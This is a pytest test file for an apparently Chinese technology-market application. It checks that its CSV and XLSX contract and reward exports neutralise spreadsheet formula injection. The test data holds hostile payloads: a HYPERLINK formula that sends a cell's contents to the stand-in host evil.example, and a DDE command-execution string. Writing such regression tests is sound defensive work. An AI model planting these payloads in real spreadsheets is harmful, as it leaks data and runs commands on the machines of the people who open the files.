"""Formula injection in exports: text a user typed never becomes a live formula in a CSV or XLSX file.

The issue's examples: a contract title ``=HYPERLINK("http://evil.example/?d="&B2,"x")`` came out as
a ``<f>`` formula in the XLSX 登记表 and raw in the CSV; inventor names ``+cmd|' /C calc'!A0`` and
``@SUM(1+1)`` likewise in ``/rewards/export``; a title holding U+0001 (stored before the API refused
it) killed the XLSX download mid-stream. The files are parsed as a spreadsheet reads them.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import zipfile
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlmodel import col
from typer.testing import CliRunner

from contracts.reward.models import BeneficiaryKind, Distribution, DistributionLine
from core.db import Database, create_engine
from market.demo import REGION_ADMIN
from tests.fixtures.app import login
from tests.statistics.helpers import LAST_YEAR, contract_row, organizations

INSTITUTE = "institute@demo.techmarket.cn"  # 演示稀土研究院, seller of the demo contract (reward ledger)
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"x")'
CALC = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)"
HOSTILE = [HYPERLINK, CALC, SUM, "-2+3", "\t=1+1", "\r=1+1"]
LEGACY = "含控制字符\u0001的合同\u0008名称"  # stored before the API refused such characters
SOURCE_ROOT = Path(__file__).resolve().parents[2]


def _stripped(text: str) -> str:
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "", text)


def _as_xml_reads(text: str) -> str:
    """XML parsers (Excel's too) read a carriage return in text as a line feed."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for Chinese stays
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _no_formula_anywhere(content: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), f"a formula element in {name}"


async def _contracts_with_titles(database: Database, titles: list[str]) -> list[int]:
    orgs = await organizations(database)
    seller, buyer = orgs.ids["演示稀土研究院"], orgs.ids["北京测试企业"]
    async with database.unit_of_work() as session:
        made = []
        for seq, title in enumerate(titles):
            contract = contract_row(
                orgs,
                seller,
                buyer,
                total_fen=123_456_78 + seq,
                registered_at=datetime(LAST_YEAR, 6, 1 + seq, tzinfo=UTC),
                seq=500 + seq,
            )
            contract.title = title
            session.add(contract)
            await session.flush()
            made.append(contract.total_fen)
        return made


async def test_registration_export_keeps_hostile_titles_as_text(client: httpx.AsyncClient, database: Database) -> None:
    titles = [*HOSTILE, LEGACY]
    totals = await _contracts_with_titles(database, titles)
    region = await login(client, REGION_ADMIN[0])
    params = {"year": LAST_YEAR}

    reply = await client.get(
        "/api/v1/statistics/exports/registrations", params={**params, "format": "csv"}, headers=region
    )
    assert reply.status_code == 200
    rows = _csv_rows(reply.content)
    by_total = {row[16]: row for row in rows[1:]}
    for title, total in zip(titles, totals, strict=True):
        row = by_total[f"{Decimal(total) / 100:.2f}"]  # amounts stay exact yuan, not neutralised text
        expected = _stripped(title)
        assert row[1] == ("'" + expected if title in HOSTILE else expected)

    reply = await client.get(
        "/api/v1/statistics/exports/registrations", params={**params, "format": "xlsx"}, headers=region
    )
    assert reply.status_code == 200
    _no_formula_anywhere(reply.content)
    sheet = load_workbook(io.BytesIO(reply.content)).active
    cells = {Decimal(str(row[16].value)): row for row in sheet.iter_rows(min_row=2)}  # <v> holds the exact decimal text
    for title, total in zip(titles, totals, strict=True):
        amount = cells[Decimal(total) / 100]
        assert amount[16].data_type == "n" and amount[16].number_format == "#,##0.00"
        assert amount[1].data_type == "s"
        assert amount[1].value == (_as_xml_reads("'" + title) if title in HOSTILE else "含控制字符的合同名称")


async def test_reward_export_keeps_hostile_inventor_names_as_text(
    client: httpx.AsyncClient, database: Database
) -> None:
    """Hostile names on the demo contract's ledger (appended as further lines), and a refund's negative amount."""
    async with database.unit_of_work() as session:
        line = (
            await session.execute(
                select(DistributionLine)
                .join(Distribution, col(Distribution.id) == col(DistributionLine.distribution_id))
                .where(col(DistributionLine.beneficiary) == BeneficiaryKind.inventor)
                .order_by(col(DistributionLine.id))
                .limit(1)
            )
        ).scalar_one()
        names = [*HOSTILE, "孙\u0001研究员"]
        for offset, name in enumerate(names, start=1):
            session.add(
                DistributionLine(
                    distribution_id=line.distribution_id,
                    contract_id=line.contract_id,
                    beneficiary=BeneficiaryKind.inventor,
                    position=10 + offset,
                    name=name,
                    organization_id=line.organization_id,
                    amount_fen=-(1000 + offset * 101),
                )
            )
    headers = await login(client, INSTITUTE)

    reply = await client.get("/api/v1/rewards/export", headers=headers)
    assert reply.status_code == 200
    rows = {row[4]: row for row in _csv_rows(reply.content)[1:]}
    for offset, name in enumerate(names, start=1):
        expected = _stripped(name)
        row = rows["'" + expected if name in HOSTILE else expected]
        assert row[5] == f"-{Decimal(1000 + offset * 101) / 100:.2f}"  # a negative amount is a number, never prefixed
    assert "245000.00" in {row[5] for row in rows.values()}  # the demo ledger's own figures, exact

    reply = await client.get("/api/v1/rewards/export", params={"format": "xlsx"}, headers=headers)
    assert reply.status_code == 200
    _no_formula_anywhere(reply.content)
    sheet = load_workbook(io.BytesIO(reply.content)).active
    cells = {row[4].value: row for row in sheet.iter_rows(min_row=2)}
    for offset, name in enumerate(names, start=1):
        row = cells[_as_xml_reads("'" + name) if name in HOSTILE else "孙研究员"]
        assert row[4].data_type == "s"
        assert row[5].data_type == "n" and Decimal(str(row[5].value)) == -Decimal(1000 + offset * 101) / 100


def test_cli_export_writes_the_same_neutralised_files(
    tmp_path: Path, migrated_urls: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    import asyncio

    from app.cli import app

    copy = tmp_path / "cli.db"
    shutil.copyfile(Path(migrated_urls["sqlite"].removeprefix("sqlite+aiosqlite:///")), copy)

    async def seed() -> None:
        database = Database(create_engine(f"sqlite+aiosqlite:///{copy}"))
        try:
            await _contracts_with_titles(database, [HYPERLINK, LEGACY])
        finally:
            await database.dispose()

    asyncio.run(seed())
    monkeypatch.setenv("TECHMARKET_DATABASE_URL", f"sqlite+aiosqlite:///{copy}")
    monkeypatch.setenv("TECHMARKET_DATA_DIR", str(tmp_path))
    runner = CliRunner()
    xlsx, csv_file = tmp_path / "contracts.xlsx", tmp_path / "contracts.csv"
    for out, fmt in ((xlsx, "xlsx"), (csv_file, "csv")):
        result = runner.invoke(
            app, ["export", "contracts", "--region", "all", "--year", str(LAST_YEAR), "--format", fmt, "-o", str(out)]
        )
        assert result.exit_code == 0, result.output
    _no_formula_anywhere(xlsx.read_bytes())
    titles = [row[1].value for row in load_workbook(xlsx).active.iter_rows(min_row=2)]
    assert "'" + HYPERLINK in titles and "含控制字符的合同名称" in titles
    assert "'" + HYPERLINK in [row[1] for row in _csv_rows(csv_file.read_bytes())]


def test_every_text_cell_rule() -> None:
    from core import tabular

    for trigger in ("=", "+", "-", "@", "\t", "\r"):
        assert tabular.safe_text(trigger + "1+1") == "'" + trigger + "1+1"
    assert tabular.safe_text("稀土 =1") == "稀土 =1" and tabular.safe_text("") == ""
    assert tabular.safe_text("\x00\x01=1\ufffe") == "'=1"  # stripped first, so a hidden prefix cannot smuggle a formula
    assert tabular.csv_cell(Decimal("-12.50")) == "-12.50" and tabular.csv_cell(-3) == "-3"


def test_one_writer_writes_every_export() -> None:
    """Only core/tabular.py writes CSV or XLSX; everything else hands it rows (reading imports is allowed)."""
    writers = re.compile(
        r"csv\.writer|DictWriter|\bWorkbook\s*\(|WriteOnlyCell|xlsxwriter|from openpyxl import (?!load_workbook\b)"
    )
    offenders = []
    for package in ("core", "contracts", "market", "search"):
        for path in sorted((SOURCE_ROOT / package).rglob("*.py")):
            if path == SOURCE_ROOT / "core" / "tabular.py":
                continue
            for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
                if writers.search(line):
                    offenders.append(f"{path.relative_to(SOURCE_ROOT)}:{number}: {line.strip()}")
    assert offenders == []
